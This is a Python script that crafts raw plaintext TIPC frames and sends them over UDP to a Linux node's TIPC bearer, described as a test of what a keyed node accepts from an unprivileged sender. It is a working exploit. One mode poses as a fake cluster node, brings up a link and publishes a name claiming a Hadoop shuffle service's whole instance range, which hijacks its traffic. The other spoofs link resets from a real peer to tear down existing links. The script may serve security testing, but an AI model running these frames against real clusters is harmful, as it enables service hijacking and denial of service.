#!/usr/bin/env python3
"""Plaintext TIPC frames sent from an ordinary UDP socket to a node's TIPC UDP bearer (port 6118), for
checking what a node with a TIPC link key (`tipc node set key`) accepts from a process that holds no
key and no privilege. Needs nothing but a UDP socket: run it as an unprivileged user.

  tipc-plaintext-inject.py discover TARGET_IP TARGET_ADDR FAKE_ADDR FAKE_ID REPLY_IP PORT SECONDS
      binds UDP REPLY_IP:PORT (REPLY_IP must be this host's), sends TARGET_IP:6118 a discovery request
      (LINK_CONFIG/DSC_REQ_MSG) from a node FAKE_ADDR (hex) with identity FAKE_ID whose UDP media address
      is REPLY_IP:PORT, then a link RESET_MSG, ACTIVATE_MSG and STATE_MSGs of that node's side of the link
      (destination node TARGET_ADDR, hex), then the link's first data message, a name publication
      {18700, 0..2^32-1} on the fake node, and a STATE_MSG every 0.4 s for SECONDS s; records every
      datagram it receives meanwhile.
  tipc-plaintext-inject.py reset TARGET_IP TARGET_ADDR PEER_ADDR SECONDS
      sends TARGET_IP:6118 three link RESET_MSGs that claim to come from node PEER_ADDR (hex), the
      other end of an existing link, with sessions 21845 apart (one of them is always newer than the
      link's current session, whatever that is); records what comes back for SECONDS s.

Prints one JSON object: every frame sent (hex) and every datagram received (size, source, and whether
it is a plaintext TIPC header, version 2, or TIPC's encryption header, version 7).

The headers follow Linux's net/tipc (msg.h, discover.c, link.c, udp_media.c; 6.1): words in network
order; word 0 = version 2 << 29 | user << 25 | header size / 4 << 21 | non_seq << 20 | message size.
"""
import json
import os
import socket
import struct
import sys
import time

BEARER_PORT = 6118
NETID = 4711
TIPC_VERSION = 2
LINK_PROTOCOL, NAME_DISTRIBUTOR, LINK_CONFIG = 7, 11, 13
PUBLICATION = 0
SHUFFLE_TYPE = 18700  # hadoop-tipc-shuffle's default service type (TipcShuffleConfig.DEFAULT_SERVICE_TYPE)
DSC_REQ_MSG = 0
STATE_MSG, RESET_MSG, ACTIVATE_MSG = 0, 1, 2
MAX_H_SIZE, INT_H_SIZE = 60, 40
NODE_ID_LEN = 16
TIPC_MAX_IF_NAME = 16
TIPC_MEDIA_TYPE_UDP = 3
TIPC_NODE_ID128 = 1 << 5  # the only capability claimed: the node identity is the 16 bytes after the header
ETH_P_IP = 0x0800
MTU = 1472


def word0(user, hsize, size, non_seq=0):
    return TIPC_VERSION << 29 | user << 25 | (hsize // 4) << 21 | non_seq << 20 | size


def discovery_request(fake_addr, fake_id, reply_ip, reply_port, signature=0x1234):
    """LINK_CONFIG/DSC_REQ_MSG as tipc_disc_init_msg builds it: 60-byte header, then the 16-byte node id."""
    w = [0] * 15
    w[0] = word0(LINK_CONFIG, MAX_H_SIZE, MAX_H_SIZE + NODE_ID_LEN, non_seq=1)
    w[1] = DSC_REQ_MSG << 29 | TIPC_NODE_ID128 << 15 | signature  # type, capabilities, node signature
    w[2] = 0  # destination domain: any node
    w[3] = fake_addr  # prevnode: the sender's node address
    w[4] = NETID  # bc_netid: the cluster's network id
    hdr = bytearray(struct.pack("!15I", *w))
    # Words 5.. are the media address (TIPC_MEDIA_INFO_OFFSET 5): byte 3 the media type, from byte 4
    # struct udp_media_addr {be16 proto; be16 port; in_addr ipv4}: where the node's frames must go.
    media = bytearray(12)
    media[3] = TIPC_MEDIA_TYPE_UDP
    media[4:12] = struct.pack("!HH4s", ETH_P_IP, reply_port, socket.inet_aton(reply_ip))
    hdr[20:32] = media
    node_id = fake_id.encode()[:NODE_ID_LEN].ljust(NODE_ID_LEN, b"\0")
    return bytes(hdr) + node_id


def link_proto(mtyp, own_addr, dest_addr, session, next_sent=1, if_name="intruder"):
    """LINK_PROTOCOL message as tipc_link_build_proto_msg builds it (40-byte header, then the interface name)."""
    w = [0] * 10
    w[0] = word0(LINK_PROTOCOL, INT_H_SIZE, INT_H_SIZE + TIPC_MAX_IF_NAME)
    w[1] = mtyp << 29  # type; seq_gap and bcast_ack 0
    w[2] = 0  # ack 0, seqno 0
    w[3] = own_addr  # prevnode
    w[4] = next_sent & 0xFFFF  # next_sent; last_bcast 0
    w[5] = (session & 0xFFFF) << 16  # session; bearer id, priority, plane, probe 0
    w[6] = own_addr  # orignode
    w[7] = dest_addr  # destnode
    w[9] = (MTU // 4) << 16  # max_pkt; tolerance 0 = keep
    name = if_name.encode()[:TIPC_MAX_IF_NAME - 1].ljust(TIPC_MAX_IF_NAME, b"\0")
    return struct.pack("!10I", *w) + name


def publication(own_addr, dest_addr, seqno, name_type, lower, upper, port, key=0x5a5a):
    """NAME_DISTRIBUTOR/PUBLICATION as a link data message (40-byte header, then one struct distr_item
    {type, lower, upper, port, key}). Word 1 bit 26 (non-legacy) clear: a legacy item, applied on arrival."""
    w = [0] * 10
    w[0] = word0(NAME_DISTRIBUTOR, INT_H_SIZE, INT_H_SIZE + 20)
    w[1] = PUBLICATION << 29
    w[2] = seqno & 0xFFFF  # ack 0, the link sequence number
    w[3] = own_addr  # prevnode
    w[6] = own_addr  # orignode: the node the name will be said to be on
    w[7] = dest_addr  # destnode
    return struct.pack("!10I", *w) + struct.pack("!5I", name_type, lower, upper, port, key)


def kind(data):
    if not data:
        return "empty"
    version = data[0] >> 5
    if version == 7:
        return "encrypted (TIPC encryption header, version 7)"
    if version == TIPC_VERSION and len(data) >= 8:
        w0, w1 = struct.unpack("!II", data[:8])
        return "plaintext TIPC: user %d type %d" % ((w0 >> 25) & 0xF, (w1 >> 29) & 0x7)
    return "other (first byte 0x%02x)" % data[0]


class Injector:
    def __init__(self, bind_ip="0.0.0.0", port=0):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((bind_ip, port))
        self.sock.settimeout(0.05)
        self.start = time.monotonic()
        self.sent, self.received = [], []

    def send(self, what, frame, target_ip):
        self.sock.sendto(frame, (target_ip, BEARER_PORT))
        self.sent.append({"t": round(time.monotonic() - self.start, 2), "what": what, "to": "%s:%d" % (target_ip, BEARER_PORT),
                          "bytes": len(frame), "hex": frame.hex()})

    def listen(self, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                data, src = self.sock.recvfrom(65535)
            except socket.timeout:
                continue
            self.received.append({"t": round(time.monotonic() - self.start, 2), "from": "%s:%d" % src, "bytes": len(data),
                                  "kind": kind(data), "head_hex": data[:16].hex()})

    def report(self, **extra):
        summary = {}
        for r in self.received:
            summary[r["kind"]] = summary.get(r["kind"], 0) + 1
        out = dict(uid=os.getuid(), gid=os.getgid(), euid=os.geteuid(), local="%s:%d" % self.sock.getsockname(),
                   sent=self.sent, received_count=len(self.received), received_by_kind=summary,
                   received_first=self.received[:12], **extra)
        print(json.dumps(out, indent=1))


def discover(target_ip, target_addr, fake_addr, fake_id, reply_ip, port, seconds):
    inj = Injector(reply_ip, port)
    session = 0x2222
    inj.send("DSC_REQ_MSG from fake node", discovery_request(fake_addr, fake_id, reply_ip, port), target_ip)
    inj.listen(1.0)
    inj.send("RESET_MSG", link_proto(RESET_MSG, fake_addr, target_addr, session), target_ip)
    inj.listen(0.3)
    inj.send("ACTIVATE_MSG", link_proto(ACTIVATE_MSG, fake_addr, target_addr, session), target_ip)
    inj.listen(0.3)
    inj.send("STATE_MSG", link_proto(STATE_MSG, fake_addr, target_addr, session), target_ip)
    inj.listen(0.4)
    # The link's first data message (sequence number 1): our service type, the whole instance range, on
    # the fake node, port 4242.
    inj.send("NAME_DISTRIBUTOR PUBLICATION {%d, 0..4294967295} on node %08x port 4242" % (SHUFFLE_TYPE, fake_addr),
             publication(fake_addr, target_addr, 1, SHUFFLE_TYPE, 0, 0xFFFFFFFF, 4242), target_ip)
    inj.listen(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        inj.send("STATE_MSG", link_proto(STATE_MSG, fake_addr, target_addr, session, next_sent=2), target_ip)
        inj.listen(0.4)
    # Keep only the first and last keep-alives in the record.
    states = [s for s in inj.sent if s["what"] == "STATE_MSG"]
    inj.sent = [s for s in inj.sent if s["what"] != "STATE_MSG"] + states[:1] + states[-1:]
    inj.report(state_msgs_sent=len(states))


def reset(target_ip, target_addr, peer_addr, seconds):
    inj = Injector()
    for i, session in enumerate((0x0101, 0x0101 + 21845, 0x0101 + 43690)):
        inj.send("RESET_MSG claiming node %08x, session %d" % (peer_addr, session & 0xFFFF),
                 link_proto(RESET_MSG, peer_addr, target_addr, session), target_ip)
        inj.listen(0.2)
    inj.listen(seconds)
    inj.report()


def main(argv):
    if len(argv) == 8 and argv[0] == "discover":
        discover(argv[1], int(argv[2], 16), int(argv[3], 16), argv[4], argv[5], int(argv[6]), float(argv[7]))
    elif len(argv) == 5 and argv[0] == "reset":
        reset(argv[1], int(argv[2], 16), int(argv[3], 16), float(argv[4]))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
